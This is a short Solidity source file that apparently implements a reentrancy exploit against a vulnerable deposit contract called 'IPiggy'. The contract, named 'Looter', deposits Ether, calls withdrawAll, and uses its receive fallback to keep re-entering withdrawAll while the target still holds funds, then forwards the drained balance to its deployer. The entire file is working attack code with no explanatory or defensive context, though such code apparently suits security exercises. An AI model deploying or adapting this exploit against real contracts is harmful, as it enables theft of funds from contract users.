pragma solidity 0.6.12;

interface IPiggy {
    function deposit() external payable;
    function withdrawAll() external;
}

contract Looter {
    IPiggy private bank;
    address payable private boss;
    uint256 private step;

    constructor(IPiggy _bank) public {
        bank = _bank;
        boss = msg.sender;
    }

    function go() external payable {
        step = msg.value;
        bank.deposit{value: msg.value}();
        bank.withdrawAll();
        boss.transfer(address(this).balance);
    }

    receive() external payable {
        if (address(bank).balance >= step) {
            bank.withdrawAll();
        }
    }
}
